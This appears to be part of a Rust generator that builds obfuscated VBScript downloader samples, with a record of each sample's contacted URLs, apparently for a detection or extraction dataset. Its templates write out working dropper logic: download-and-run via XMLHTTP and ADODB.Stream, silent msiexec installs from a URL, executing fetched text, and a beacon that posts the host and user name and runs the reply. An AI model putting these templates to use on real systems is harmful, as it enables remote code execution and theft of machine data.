        put("Function @A@()\n    @A@ = @URL@\nEnd Function\n", &[("A", &names[0]), ("URL", &word)]),
        put(
            "Function @B@(address)\n    Dim web\n    Set web = CreateObject(\"@REQUEST@\")\n    web.Open \"GET\", address, False\n    web.Send\n    If web.Status = 200 Then @B@ = web.responseBody\nEnd Function\n",
            &[("B", &names[1]), ("REQUEST", request)],
        ),
        put(
            "Sub @C@(bytes, path)\n    Dim file\n    Set file = CreateObject(\"ADODB.Stream\")\n    file.Type = 1\n    file.Open\n    file.Write bytes\n    file.SaveToFile path, 2\n    file.Close\nEnd Sub\n",
            &[("C", &names[2])],
        ),
        put(
            "Function @D@()\n    @D@ = CreateObject(\"Scripting.FileSystemObject\").GetSpecialFolder(2) & \"\\@FILE@.exe\"\nEnd Function\n",
            &[("D", &names[3]), ("FILE", &names[4])],
        ),
    ];
    for at in (1..parts.len()).rev() {
        let other = dice.below(at + 1);
        parts.swap(at, other);
    }
    for part in parts {
        out.push_str(&part);
        out.push_str(&junk(dice));
    }
    out + &put(
        "@C@ @B@(@A@()), @D@()\nCreateObject(\"WScript.Shell\").Run @D@(), 1, False\n",
        &[("A", &names[0]), ("B", &names[1]), ("C", &names[2]), ("D", &names[3])],
    )
}

/// Several files of one server.
fn several(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = start(dice);
    let origin = Truth::origin(dice);
    let files: Vec<String> = (0..2 + dice.below(3))
        .map(|_| format!("{}.{}", dice.name(), dice.pick(&["exe", "dll", "dat"])))
        .collect();
    for file in &files {
        truth.joined(&origin, &format!("/{file}"));
    }
    let word = hide(dice, &origin, &mut out);
    let base = mixed(dice, 5);
    let list = quoted(&files, '"').join(", ");
    out + &put(
        "@BASE@ = @URL@\nSet web = CreateObject(\"MSXML2.ServerXMLHTTP\")\nFor Each item In Array(@LIST@)\n    web.Open \"GET\", @BASE@ & \"/\" & item, False\n    web.Send\n    Set data = CreateObject(\"ADODB.Stream\")\n    data.Type = 1\n    data.Open\n    data.Write web.responseBody\n    data.SaveToFile \"C:\\Users\\Public\\\" & item, 2\n    data.Close\nNext\nCreateObject(\"WScript.Shell\").Run \"C:\\Users\\Public\\@FIRST@\", 0\n",
        &[("BASE", &base), ("URL", &word), ("LIST", &list), ("FIRST", &files[0])],
    )
}

/// Through the installer, or another component that fetches by itself.
fn installer(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = start(dice);
    let url = truth.url(dice, &[".msi", ""]);
    let word = address(dice, &url, &mut out);
    let name = mixed(dice, 5);
    let form = dice.pick(&[
        "Set @NAME@ = CreateObject(\"WindowsInstaller.Installer\")\n@NAME@.UILevel = 2\n@NAME@.InstallProduct @URL@, \"ACTION=INSTALL\"\n",
        "Set @NAME@ = CreateObject(\"Shell.Application\")\n@NAME@.ShellExecute \"msiexec.exe\", \"/i \" & @URL@ & \" /qn\", \"\", \"runas\", 0\n",
        "Set @NAME@ = CreateObject(\"Microsoft.XMLDOM\")\n@NAME@.async = False\n@NAME@.load @URL@\nExecute @NAME@.documentElement.text\n",
    ]);
    out + &put(form, &[("NAME", &name), ("URL", &word)])
}

/// Word home with the data of the machine.
fn beacon(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut out = start(dice);
    let url = Parts::of(&dice.url(&["/gate.php", "/index.php", ""]));
    let port = url.port.unwrap_or_else(|| dice.port());
    let full = format!("{}://{}:{port}{}", url.scheme, url.host, url.path);
    truth.urls.insert(full);
    let host = hide(dice, &url.host, &mut out);
    let path =
        if dice.chance(50) { hide(dice, &url.path, &mut out) } else { format!("\"{}\"", url.path) };
    out + &put(
        "server = @HOST@\nnumber = @PORT@\nSet net = CreateObject(\"WScript.Network\")\nSet req = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\nreq.Open \"POST\", \"@SCHEME@://\" & server & \":\" & CStr(number) & @PATH@, False\nreq.SetRequestHeader \"User-Agent\", \"@AGENT@\"\nreq.Send \"h=\" & net.ComputerName & \"&u=\" & net.UserName\nIf req.Status = 200 Then Execute req.ResponseText\n",
        &[
            ("HOST", &host),
            ("PORT", &port.to_string()),
            ("SCHEME", &url.scheme),
            ("PATH", &path),
            ("AGENT", agent(dice)),
        ],
    )
}
